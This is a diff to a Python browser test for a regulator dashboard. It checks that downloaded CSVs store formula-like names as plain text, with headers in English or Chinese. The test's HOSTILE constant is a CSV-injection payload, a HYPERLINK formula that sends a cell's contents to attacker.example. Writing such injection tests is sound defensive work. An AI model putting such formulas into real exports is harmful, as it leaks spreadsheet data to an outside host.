@@ -1,12 +1,16 @@
 """CSV injection in the regulator dashboard's downloads (issue 10, finding 7): an operator names its
 own collection point like a spreadsheet formula; the network CSV the page saves, and the CSV the page
-builds itself (the national totals), hold such text with a leading apostrophe, numbers unchanged."""
+builds itself (the national totals), hold such text with a leading apostrophe, numbers unchanged.
+Both carry their header row in the page's language (issue 11, item 6: ``lang=`` on the API's CSV)."""
 
 from __future__ import annotations
 
 import csv
 from typing import Any
 
+import pytest
+
+from batterytrace.trace.report_columns import column_keys, header_row
 from tests.browser.conftest import DemoSite, console_errors, sign_in
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")'
@@ -32,23 +36,34 @@ def _register_hostile_point(site: DemoSite) -> None:
         assert POINT in {row["id"] for row in network.json()["items"]}
 
 
-def _saved_rows(page: Any, selector: str) -> list[dict[str, str]]:
+def _saved_report(page: Any, selector: str, report: str, language: str) -> list[dict[str, str]]:
+    """A report's CSV as the page saved it, its header row in the page's language: each row read
+    by column position into the report's keys (trace/report_columns.py)."""
     with page.expect_download() as caught:
         page.click(selector)
     with open(caught.value.path(), encoding="utf-8", newline="") as saved:
-        return list(csv.DictReader(saved))
+        header, *rows = list(csv.reader(saved))
+    keys = column_keys(report)
+    assert header == header_row(keys, report, language)
+    return [dict(zip(keys, row, strict=True)) for row in rows]
 
 
-def test_the_downloaded_csvs_hold_formulas_as_plain_text(browser: Any, demo_site: DemoSite) -> None:
-    _register_hostile_point(demo_site)
+@pytest.mark.parametrize("language", ["en", "zh"])
+def test_the_downloaded_csvs_hold_formulas_as_plain_text(
+    browser: Any, demo_site: DemoSite, language: str
+) -> None:
+    if POINT not in demo_site.extra:
+        _register_hostile_point(demo_site)
+        demo_site.extra[POINT] = True
     context = browser.new_context(accept_downloads=True, locale="en-GB")
     page = context.new_page()
     errors = console_errors(page)
     try:
-        sign_in(page, demo_site, "regulator", "/regulator")
+        sign_in(page, demo_site, "regulator", "/regulator", lang=language)
         page.wait_for_selector("#regulator[data-state=ready]")
 
-        network = {row["id"]: row for row in _saved_rows(page, "#rg-network-card .rg-csv")}
+        saved = _saved_report(page, "#rg-network-card .rg-csv", "network", language)
+        network = {row["id"]: row for row in saved}
         assert network[POINT]["name"] == "'" + HOSTILE
         assert float(network[POINT]["capacity_kg"]) >= 0
 
@@ -67,8 +82,14 @@ def test_the_downloaded_csvs_hold_formulas_as_plain_text(browser: Any, demo_site
             {"text": "'\t=1", "value": "'+cmd"},
             {"text": "plain", "value": "0"},
         ]
-        totals = _saved_rows(page, "#rg-totals-card .rg-csv")
-        assert totals and all(not row["value"].startswith("'") for row in totals)
+        with page.expect_download() as caught:
+            page.click("#rg-totals-card .rg-csv")
+        with open(caught.value.path(), encoding="utf-8", newline="") as saved:
+            header, *totals = list(csv.reader(saved))
+        assert header == (["metric", "value"] if language == "en" else ["指标", "数值"])
+        assert totals and all(not value.startswith("'") for _metric, value in totals)
+        rate = page.locator("#rg-totals [data-total=recycling_rate] .rg-total-label").inner_text()
+        assert rate in {metric for metric, _value in totals}  # metrics named as on the page
         assert errors == []
     finally:
         context.close()
